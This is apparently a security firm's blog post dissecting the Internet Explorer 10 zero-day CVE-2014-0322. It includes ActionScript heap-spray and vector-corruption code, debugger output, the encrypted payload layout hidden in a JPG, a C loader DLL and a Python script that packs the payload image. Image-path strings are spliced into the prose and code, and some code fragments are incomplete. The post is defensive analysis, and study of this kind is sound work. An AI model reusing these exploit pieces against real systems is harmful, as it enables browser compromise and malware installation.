Dissecting the newest IE10 0-day exploit (CVE-2014-0322)

Author: No Comments Share:

Few days ago the news about a fresh Internet Explorer 10 zero-day exploit popped up. Now the exploit code is publicly available and we managed to analyze the vulnerability and find out some details that were not mentioned so far.  At the time of writing this blog, this exploit is still unpatched.

We tested the exploit on Windows 7 SP1 Enterprise 32 bit with several versions of Flash Player (10, 11 and 12). The code provided in the article was derived from the actual exploit but we simplified it and gave some meaningful names to the variables.

General diagram of the attack looks like this:

General overview of the attackFirst, let’s see the vulnerability itself. To do that we need to get rid of the flash part and call the vulnerable function explicitly:

<body onLoad = "puIHa3()">

We set up a simple python web server (python.exe –m SimpleHTTPServer 8080) and ran IE10 in WinDbg by issuing this command:

windbg.exe –g –hd –o “C:\Program Files\Internet Explorer\iexplore.exe” http://localhost:8080/ie10_0day.html

Soon after the page loads, the exception occurs somewhere at MSHTML.DLL offset 281b97:

inc dword ptr [eax+10h]

EAX here points at the heap address 0x1a1b2000, the one provided in the exploit code as (0x1a1b2000 – 0x10). Apparently whoever found this vulnerability had figured that it is suited for a Flash based ASLR bypass.

We noticed that in 6-7 cases out of 10, Internet Explorer would crash before reaching thevulnerable condition. It may work better on other versions of Windows, but in our set up it is not very reliable.

The exploitation method is welldescribed here and here.  The exploit leverages the way Action Script 3 Vector class instance is allocated in the memory. The heap spray instances are aligned at 0x1000 boundaries so that when a big enough spray is provided, one of the allocations will end up at 0x1a1b2000 with high probability.This approach is not reliable, because in the presence of better randomization, the heap may not align.

This piece of the Action Script 3 code:

[sourcecode language=”actionscript3″]

this.s = new Vector.<Object>(98688);

for (i=0; i < 98688; i++)
this.s[i] = new Vector.<uint>(1022);
this.s[i][0] =0xDEADBEE1;
this.s[i][2] = 0x1a1b2000;
this.s[i][3] = 0x1a1b2000;
this.s[i][110] = 0;
this.s[i][186] = 0x41414141;


produces the following memory layout repeating every 0x1000 bytes:

1a1b2000 fe 03 00 00 00 20 55 0d e1 be ad de  ..... U.....
1a1b200c 00 00 00 00 00 20 1b 1a 00 20 1b 1a  ..... ... ..
1a1b12ec 00 00 00 00 41 41 41 41 00 00 00 00  ....AAAA....
1a1b12f8 00 00 00 00 00 00 00 00 00 00 00 00  ............

The way Vector objects are handled is a bit different in the versions of the player prior to 11, so the exploit will not work on Flash 10.

The IE portion of the exploit can increment the doubleword 0x000003FE, which corresponds to the size of the vector.  According to the AS3 documentation a Vector is a dense array, and accesses to its instances are boundary checked. So incrementing the size will allow an attacker to modify one doubleword beyondthe vector boundaries. This doubleword is the size of the next vector. Now the attacker can assign it some big number and access the whole process memory.  This creates a R/W exploit primitive, which should allow for a more reliable exploit to be created.

But how does the attacker know which vector was affected by the vulnerability? Or in other words, which element is at 0x1a1b2000? To find this out, the attacker’s AS3 code simply iterates through the parent vector (referenced as this.s in the code above) and stops when the current vector length is bigger than 0x03FE.

Let’s examine how this search procedure looks:

[sourcecode language=”actionscript3″]
// Looking for affected vector

for (i = 0; i < 0x18180; ++i){ if (this.s[i].length > 1022)

// This element is now writable since
// the length of the vector is 1023

this.s[i][1022] = 0x3FFFFFF0;

Now the next vector element can access 0x3FFFFFF0 bytes of memory starting from its first element.  This enables the exploit to iterate through memory and find the necessary ROP gadgets.To start the exploit, the toString() method of the Sound class is overwritten.

The actual malicious payload is stored in the JPG image that flash downloads and stores as a byte array (which is an array of binary data in AS3).  We don’t have the image so we had to reverse the image format via shellcode analysis. It hasthe following structure:

  • 36321 bytes of data (possibly legitimate image bytes);
  • 4 bytes size of two payloads (it’s there for decryption purposes);
  • 4 bytes size of the dropper (supposedly a DLL);
  • 4 bytes size of the malware binary;
  • Dropper XOR-encrypted with key 0x95
  • Malware binary XOR-encrypted with key 0x95

First the shellcode decrypts the payloads and then writes both to files (that’s why the sizes of each payload were provided).  The target path is obtained via GetTempPath function. Dropper is named sqlrenew.txt and malware binary stream.exe. After writing data on disk it calls LoadLibrary and passes sqlrenew.txt as an argument.In order to reproduce the attack we prepared a simple DLL that would execute stream.exe:

[sourcecode language=”cpp”]

#define BUFFLEN 256
#define NAME “\stream.exe”

BOOL WINAPI DllMain(HINSTANCE hinstDLL, DWORDfdwReason, LPVOID lpvReserved) {
char buf[BUFFLEN];
int len;
if(fdwReason == DLL_PROCESS_ATTACH){
len = GetTempPath(BUFFLEN, buf);
strncpy(&buf[len], NAME, strlen(NAME));
WinExec(buf, SW_SHOWNORMAL);
return TRUE;

To test successful exploitation, we took calc.exe as our neutralized payload. Now, we pack everything into the image and we wrote a python script:

[sourcecode language=”python”]
import struct

KEY = 0x95
OFFSET = 36321
DLL = ‘dll.dll’
MALWARE = ‘calc.exe’

def read_file(path):
fd = open(path, ‘rb’)
data = fd.read()
return data

def encrypt(data):
encr_data = []
for byte_ in data:
if ord(byte_) == 0 or ord(byte_) == KEY:
out_byte = byte_
out_byte = chr(ord(byte_)^KEY)

return ”.join(encr_data)

outfd = open(‘Erido.jpg’, ‘wb’)


dll = read_file(DLL)
mw = read_file(MALWARE)

dll_len = len(dll)
mw_len = len(mw)

total_len_packed = struct.pack(‘<I’, dll_len+mw_len)
dll_len_packed = struct.pack(‘<I’, dll_len)
mw_len_packed = struct.pack(‘<I’, mw_len)

outfd.write (  total_len_packed )
outfd.write (  dll_len_packed )
outfd.write (  mw_len_packed )
outfd.write( encrypt(dll) )
outfd.write( encrypt(mw) )


Thus the exploit first loads a DLL which calls calc.exe:

Calc.exe launched by exploit

Naturally we managed to test this exploit in vSentry. The attack was successfully detected and isolated. All usersusing the vSentry product are obviously protected from this attack (and future unseen attacks). Below is the brief LAVA trace which we saw after reproducing the exploit successfully.

Lava graph

Interestingly, we had to do some work to make this exploit work. It would crash before reaching the vulnerability condition, producing an error like this:

eax=00000000 ebx=29e62fa0 ecx=00000000 edx=0f0cecc0 esi=0f0cecc0 edi=0c264f50
eip=66621ba9 esp=0552991c ebp=05529988 iopl=0         nv up ei pl zr na pe nc
cs=001b  ss=0023  ds=0023  es=0023  fs=003b  gs=0000             efl=00050246
66621ba9 83b8c001000000  cmp     dword ptr [eax+1C0h],0 ds:0023:000001c0=????????

We could only make it work after increasing the first allocation by IE from 0x250 to 0x260 in this snippet (arrLen is the variable whose value we changed):

[sourcecode language=”javascript”]
for (a = 0; a < arrLen; ++a) {
g_arr[a] = document.createElement(‘div’)

Furthermore, this exploit would also crash in the middle of Flash DLL in the Player v. 11 despite the correct and seemingly exploitable memory layout.

These little issues further prove the point that either the exploit writers didn’t spend enough time perfecting the exploit or perhaps they were ina hurry to get it deployed? But then again, bad guys don’t need to infect all users, just few are enough to makereasonable profits.

We expect that there is a considerable risk of a more advancedversion of this exploit coming up in the wild.  One of Bromium Labs researchers, Jared DeMott, recently discussed how to bypass EMET, which is currently listed as one of the recommended tools to mitigate this zero day exploit.

Previous Article

Don’t blame the victim of the hack, blame the securityvendors!

Next Article

Bypassing EMET 4.1

You may alsolike

Leave a Reply

Your email address will notbe published. Required fields are marked *